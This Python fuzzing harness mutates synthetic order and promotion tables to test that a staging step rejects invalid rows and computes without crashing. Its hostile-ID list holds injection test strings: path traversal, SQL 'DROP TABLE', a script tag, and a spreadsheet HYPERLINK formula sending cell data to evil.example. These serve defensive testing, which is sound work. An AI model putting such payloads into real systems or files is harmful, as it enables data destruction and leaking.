"""Fuzzing the input contract: generated bad inputs through staging and the computation.

Each case starts from a small valid input set (the synthetic generator's: 5 to 40 orders in 1 to
3 shops, with a sample of its promotions) and applies 1 to 4 mutations that its seed chooses:
wrong types, nulls, out-of-range and boundary values, duplicate and conflicting rows, unknown
columns (the job's own internal names among them), shuffled rows, text where numbers belong,
timestamps without a zone or out of range, IDs with separators, quotes, NUL, markup, SQL,
formulas and 100,000 characters. A mutation that makes a row invalid names it: it must be rejected.

For each case:
- staging either stops with one line naming the table and the column (a broken contract), or
  puts every input row in its staged table or in `rejected_rows` exactly once, with a reason of
  the documented list ("lost" otherwise);
- every row a mutation made invalid is rejected ("silent accept" otherwise);
- unknown columns and the order of rows change no verdict ("not invariant" otherwise);
- pricing, statements, reconciliation and every output contract run on what staging accepted,
  without an exception ("crash" otherwise), for every `compute_every`-th case.

`pytest tests/test_fuzz.py` runs the first few hundred cases. The slow run of docs/reliability.md:

    .venv/bin/python -m tests.fuzzing --cases 10000 --processes 2
"""

import argparse
import json
import random
import sys
import time
import traceback
from collections import Counter
from dataclasses import dataclass, field
from datetime import UTC, datetime
from functools import cache, partial
from multiprocessing import Pool

import polars as pl

from schemas.inputs import INPUT_TABLES, MAX_AMOUNT_CENTS, MAX_COUNT, REASONS, TABLE_KEYS
from transforms.staging import InputContractError, stage

AS_OF = datetime(2026, 11, 1, tzinfo=UTC)
COLUMNS = {table: {col.name: col for col in cols} for table, cols in INPUT_TABLES.items()}
HOSTILE_IDS = (
    "../../../../elsewhere", "/srv/elsewhere/SHOPX", "a/b\\c", "nul\x00byte", "'; DROP TABLE orders; --",
    '"quoted", with comma', "<script>alert(1)</script>", '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1", "-1", "@SUM(A1)", "\t=1", "x" * 100_000, "é\u202eRTL\u200b", " padded ", "\n",
)  # fmt: skip
NOT_NUMBERS = ("abc", "1,5", "NaN", "inf", "-inf", "1e400", "--1", "0x10", "1.2.3", "١٢", "12 34", "$5")
NOT_TIMESTAMPS = (
    "abc",
    "2025-02-30T00:00:00Z",
    "2025-06-01T25:00:00Z",
    "10000-01-01T00:00:00Z",
    "2025-13-01T00:00:00Z",
)
NAIVE_TIMESTAMPS = ("2025-06-01 12:00:00", "2025-06-01T12:00:00", "2025-06-01")
INTERNAL_NAMES = (
    "row_number",
    "_key",
    "_failure",
    "_reason_0",
    "_value_0",
    "_unreadable_0",
    "__index_level_0__",
    "amount_cents",
)


@dataclass
class Case:
    seed: int
    raw: dict[str, pl.DataFrame]
    must_reject: set[tuple[str, int]] = field(default_factory=set)  # (table, row number from 1)
    mutations: list[str] = field(default_factory=list)
    must_stop: bool = False  # a required column is missing: the run stops, naming it
    shuffled: bool = False  # compare verdicts with those of the rows in another order
    extra_columns: bool = False  # compare verdicts with those of the same tables with unknown columns


@cache
def _base(index: int) -> dict[str, pl.DataFrame]:
    """One of 16 valid input sets; promotions sampled so that a case stages in milliseconds."""
    from synthetic.generate import generate_inputs

    rng = random.Random(index)
    tables = generate_inputs(rng.randint(5, 40), index, rng.randint(1, 3))
    ids = tables["promotions"]["promotion_id"].unique(maintain_order=True).to_list()
    kept = rng.sample(ids, min(len(ids), 12))
    tables["promotions"] = tables["promotions"].filter(pl.col("promotion_id").is_in(kept))
    tables["promotion_products"] = tables["promotion_products"].filter(pl.col("promotion_id").is_in(kept)).head(150)
    return tables


def _as_text(frame: pl.DataFrame, column: str) -> pl.DataFrame:
    """The column as text a seller's export would hold, with the same values."""
    dtype = frame.schema[column]
    if dtype == pl.String:
        return frame
    if isinstance(dtype, pl.Datetime):
        return frame.with_columns(pl.col(column).dt.to_string("%Y-%m-%dT%H:%M:%S%.6fZ"))
    return frame.with_columns(pl.col(column).cast(pl.String))


def _set(frame: pl.DataFrame, column: str, row: int, value: object, dtype: pl.DataType | None = None) -> pl.DataFrame:
    """`frame` with one cell replaced (row counted from 0); text goes into a text column."""
    column_type = frame.schema[column]
    if not isinstance(value, str | type(None)) and (
        column_type == pl.String or (dtype == pl.UInt64 and not (frame[column].min() or 0) >= 0)
    ):
        value, dtype = str(value), None  # into a column that already holds text (or a negative count), as text
    if isinstance(value, str):
        frame = _as_text(frame, column)
    dtype = dtype or frame.schema[column]
    frame = frame.with_columns(pl.col(column).cast(dtype))
    hit = pl.int_range(pl.len()) == row
    return frame.with_columns(pl.when(hit).then(pl.lit(value, dtype)).otherwise(pl.col(column)).alias(column))


def _pick(rng: random.Random, case: Case, kinds: tuple[str, ...] | None = None) -> tuple[str, str, int] | None:
    """A (table, column, row) of the case, with a column of one of `kinds`."""
    choices = [
        (table, name)
        for table, frame in case.raw.items()
        if frame.height
        for name, col in COLUMNS[table].items()
        if name in frame.columns and (kinds is None or col.kind in kinds)
    ]
    if not choices:
        return None
    table, name = rng.choice(choices)
    free = [row for row in range(case.raw[table].height) if (table, row + 1) not in case.must_reject]
    # A row another mutation made invalid is left alone: a valid value written over it would undo that.
    return (table, name, rng.choice(free)) if free else None


def _rejects_null(table: str, column: str) -> bool:
    col = COLUMNS[table][column]
    return not col.nullable and col.default is None


def _null_cell(rng, case):
    if (where := _pick(rng, case)) is None:
        return
    table, column, row = where
    case.raw[table] = _set(case.raw[table], column, row, None)
    if _rejects_null(table, column):
        case.must_reject.add((table, row + 1))
    return f"null {table}.{column}"


def _text_in_number(rng, case):
    if (where := _pick(rng, case, ("money", "rate", "value", "count", "timestamp", "bool", "date"))) is None:
        return
    table, column, row = where
    kind = COLUMNS[table][column].kind
    value = rng.choice(NOT_TIMESTAMPS if kind in ("timestamp", "date") else NOT_NUMBERS)
    case.raw[table] = _set(case.raw[table], column, row, value)
    case.must_reject.add((table, row + 1))
    return f"text {value!r} in {table}.{column}"


def _beyond_bound(rng, case):
    if (where := _pick(rng, case, ("money", "count", "rate"))) is None:
        return
    table, column, row = where
    kind = COLUMNS[table][column].kind
    if kind == "money":
        value = rng.choice(
            [f"{MAX_AMOUNT_CENTS // 100}.01", f"-{MAX_AMOUNT_CENTS // 100}.01", "99999999999999999999.99"]
        )
    elif kind == "rate":
        value = rng.choice(["1.000001", "-0.000001", "1e6"])
    else:
        value = rng.choice([MAX_COUNT + 1, -(2**63), 2**62, 2**64 - 1, str(MAX_COUNT + 1), "18446744073709551616"])
    dtype = pl.UInt64 if value == 2**64 - 1 else pl.Int64 if isinstance(value, int) else None
    case.raw[table] = _set(case.raw[table], column, row, value, dtype)
    case.must_reject.add((table, row + 1))
    return f"beyond bound {value!r} in {table}.{column}"


def _at_bound(rng, case):
    if (where := _pick(rng, case, ("money", "count"))) is None:
        return
    table, column, row = where
    value = f"{MAX_AMOUNT_CENTS // 100}.00" if COLUMNS[table][column].kind == "money" else str(MAX_COUNT)
    case.raw[table] = _set(case.raw[table], column, row, rng.choice([value, "0", "0.00" if "." in value else "1"]))
    return f"boundary value in {table}.{column}"


def _float_money(rng, case):
    if (where := _pick(rng, case, ("money",))) is None:
        return
    table, column, row = where
    if case.raw[table].schema[column] == pl.String:  # already text: another mutation's
        return None
    value = rng.choice([10.005, 0.1 + 0.2, 1e-3])
    frame = case.raw[table].with_columns(pl.col(column).cast(pl.Float64))
    case.raw[table] = _set(frame, column, row, value)
    case.must_reject.add((table, row + 1))
    return f"float {value!r} in {table}.{column}"


def _wrong_type(rng, case):
    """A whole column of a type no cast reads: every row with a value must be rejected, or the run stopped."""
    if (where := _pick(rng, case)) is None:
        return
    table, column, _ = where
    value, name = rng.choice([(pl.lit([1, 2]), "list"), (pl.struct(a=pl.lit(1)), "struct"), (pl.lit(b"\x00\xff"), "bytes"),
                              (pl.duration(days=1), "duration"), (pl.time(1), "time")])  # fmt: skip
    case.raw[table] = case.raw[table].with_columns(value.alias(column))
    case.must_reject |= {(table, row + 1) for row in range(case.raw[table].height)}
    return f"{name} column {table}.{column}"


def _naive_timestamp(rng, case):
    if (where := _pick(rng, case, ("timestamp",))) is None:
        return
    table, column, row = where
    if (
        isinstance(case.raw[table].schema[column], pl.Datetime) and rng.random() < 0.3
    ):  # the whole column typed without a zone
        case.raw[table] = case.raw[table].with_columns(pl.col(column).dt.replace_time_zone(None))
        nulls = case.raw[table][column].is_null()
        case.must_reject |= {(table, r + 1) for r in range(case.raw[table].height) if not nulls[r]}
        return f"naive column {table}.{column}"
    value = rng.choice(NAIVE_TIMESTAMPS)
    case.raw[table] = _set(case.raw[table], column, row, value)
    case.must_reject.add((table, row + 1))
    return f"naive {value!r} in {table}.{column}"


def _duplicate(rng, case):
    keyed = [t for t, f in case.raw.items() if f.height and "row_number" not in TABLE_KEYS[t]]
    if not keyed:
        return
    table = rng.choice(keyed)
    frame = case.raw[table]
    row = rng.randrange(frame.height)
    copy = frame.slice(row, 1)
    conflicting = [c for c in frame.columns if c not in TABLE_KEYS[table] and frame.schema[c] in (pl.String, pl.Int64)]
    if conflicting and rng.random() < 0.5:  # the same key with another value
        other = rng.choice(conflicting)
        copy = _set(copy, other, 0, "conflict" if copy.schema[other] == pl.String else 7)
    case.raw[table] = pl.concat([frame, copy])
    case.must_reject.add((table, case.raw[table].height))
    return f"duplicate row of {table}"


def _hostile_id(rng, case):
    if (where := _pick(rng, case, ("id", "text"))) is None:
        return
    table, column, row = where
    case.raw[table] = _set(case.raw[table], column, row, rng.choice(HOSTILE_IDS))
    return f"hostile text in {table}.{column}"


def _empty_table(rng, case):
    optional = [t for t in case.raw if t not in ("orders", "order_lines")]
    table = rng.choice(optional)
    case.must_reject = {(t, row) for t, row in case.must_reject if t != table}
    if rng.random() < 0.5:
        case.raw[table] = case.raw[table].head(0)
        return f"empty {table}"
    del case.raw[table]
    return f"no {table}"


def _drop_column(rng, case):
    required = [(t, c.name) for t, f in case.raw.items() for c in INPUT_TABLES[t] if c.required and c.name in f.columns]
    table, column = rng.choice(required)
    case.raw[table] = case.raw[table].drop(column)
    case.must_stop = True
    return f"no column {table}.{column}"


def _shuffle(rng, case):
    case.shuffled = True
    return "rows shuffled"


def _extra_columns(rng, case):
    case.extra_columns = True
    return "unknown columns"


MUTATIONS = (
    _null_cell, _text_in_number, _beyond_bound, _at_bound, _float_money, _naive_timestamp, _hostile_id,
    _wrong_type, _duplicate, _empty_table, _drop_column, _shuffle, _extra_columns,
)  # fmt: skip


def make_case(seed: int) -> Case:
    rng = random.Random(seed)
    case = Case(seed, dict(_base(rng.randrange(16))))
    # Cells first, then whole rows, then whole tables: a later mutation never undoes an earlier
    # one's must-reject (a null key would make a duplicated row unique again).
    for mutate in sorted(rng.sample(MUTATIONS, rng.randint(1, 4)), key=MUTATIONS.index):
        said = mutate(rng, case)
        if said:
            case.mutations.append(said)
    return case


def _verdicts(rejected: pl.DataFrame) -> list[tuple]:
    """What was rejected and why, whatever the rows' order (a key made of row numbers is left out)."""
    key = pl.when(pl.col("table") != "opt_out_events").then(pl.col("key"))
    return sorted(rejected.select("table", key, "column", "reason", "value").rows(), key=repr)


def _with_extra_columns(raw: dict[str, pl.DataFrame], rng: random.Random) -> dict[str, pl.DataFrame]:
    return {
        table: frame.with_columns(
            pl.lit(rng.choice(["x", None, "1"])).alias(name)
            for name in rng.sample(INTERNAL_NAMES, 3)
            if name not in frame.columns
        )
        for table, frame in raw.items()
    }


def _shuffled(raw: dict[str, pl.DataFrame], seed: int) -> dict[str, pl.DataFrame]:
    return {table: frame.sample(fraction=1.0, shuffle=True, seed=seed) for table, frame in raw.items()}


def check(seed: int, compute_every: int = 1) -> dict:
    """Run one case; its outcome: ok, stopped (with the line), or the first defect found."""
    try:
        case = make_case(seed)
    except Exception as exc:
        return {
            "seed": seed,
            "mutations": [],
            "rows": 0,
            "outcome": "harness error",
            "detail": f"{type(exc).__name__}: {str(exc)[:200]}",
        }
    result = {"seed": seed, "mutations": case.mutations, "rows": sum(f.height for f in case.raw.values())}
    try:
        try:
            staged = stage(case.raw)
        except InputContractError as exc:
            named = exc.table in INPUT_TABLES and (exc.column is None or exc.column in COLUMNS[exc.table])
            one_line = "\n" not in str(exc) and len(str(exc)) < 500
            return result | {"outcome": "stopped" if named and one_line else "crash", "detail": str(exc)[:200]}
        if case.must_stop:
            return result | {"outcome": "silent accept", "detail": "a required column is missing and the run went on"}
        rejected = staged.rejected_rows
        unknown = set(rejected["reason"].unique()) - set(REASONS)
        if unknown:
            return result | {"outcome": "unknown reason", "detail": sorted(unknown)}
        for table, frame in case.raw.items():
            mine = rejected.filter(pl.col("table") == table)
            if (
                mine["row_number"].n_unique() != mine.height
                or staged.tables[table].height + mine.height != frame.height
            ):
                return result | {"outcome": "lost", "detail": table}
        found = set(rejected.select("table", "row_number").rows())
        missed = sorted(case.must_reject - found)
        if missed:
            return result | {"outcome": "silent accept", "detail": missed[:5]}
        if case.shuffled and _verdicts(stage(_shuffled(case.raw, seed)).rejected_rows) != _verdicts(rejected):
            return result | {"outcome": "not invariant", "detail": "row order"}
        if case.extra_columns and _verdicts(
            stage(_with_extra_columns(case.raw, random.Random(seed))).rejected_rows
        ) != _verdicts(rejected):
            return result | {"outcome": "not invariant", "detail": "unknown columns"}
        if seed % compute_every == 0:
            _compute(staged)
            result["computed"] = True
    except Exception as exc:
        where = traceback.extract_tb(exc.__traceback__)[-1]
        return result | {
            "outcome": "crash",
            "detail": f"{type(exc).__name__}: {str(exc)[:200]} at {where.filename}:{where.lineno}",
        }
    return result | {"outcome": "ok"}


def _compute(staged) -> None:
    """Price, write statements and validate every output contract, as a partition of a run does."""
    from flows.steps import published_tables, validate
    from transforms.pipeline import compute_staged, cut_at_as_of, known_orders
    from transforms.run_scope import Window

    staged = cut_at_as_of(staged, AS_OF)
    results = compute_staged(staged, known_orders(staged), AS_OF, 8)
    validate(results.priced, published_tables(results, Window()))


def run(cases: int, processes: int, compute_every: int, first: int = 0) -> dict:
    started = time.perf_counter()
    results = []
    with Pool(processes) as pool:
        for result in pool.imap_unordered(
            partial(check, compute_every=compute_every), range(first, first + cases), chunksize=20
        ):
            results.append(result)
            if len(results) % 500 == 0 or len(results) == cases:
                bad = sum(1 for r in results if r["outcome"] not in ("ok", "stopped"))
                print(
                    f"{len(results):,}/{cases:,} cases, {bad} defects, {time.perf_counter() - started:.0f} s",
                    file=sys.stderr,
                    flush=True,
                )
    results.sort(key=lambda r: r["seed"])
    outcomes = Counter(r["outcome"] for r in results)
    mutations = Counter(m.split(" ")[0] for r in results for m in r["mutations"])
    return {
        "cases": cases,
        "seeds": f"{first}..{first + cases - 1}",
        "input rows": sum(r["rows"] for r in results),
        "computed": sum(1 for r in results if r.get("computed")),
        "outcomes": dict(outcomes),
        "defects": [r for r in results if r["outcome"] not in ("ok", "stopped")],
        "mutations applied": dict(mutations),
        "seconds": round(time.perf_counter() - started, 1),
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--cases", type=int, default=10_000)
    parser.add_argument("--first", type=int, default=0, help="first seed")
    parser.add_argument("--processes", type=int, default=2)
    parser.add_argument("--compute-every", type=int, default=5, help="price and validate every N-th case")
    parser.add_argument("--case", type=int, help="run one seed and print what it did")
    args = parser.parse_args()
    if args.case is not None:
        print(json.dumps(check(args.case), indent=2, default=str))
        return
    summary = run(args.cases, args.processes, args.compute_every, args.first)
    print(json.dumps(summary, indent=2, default=str))


if __name__ == "__main__":
    main()
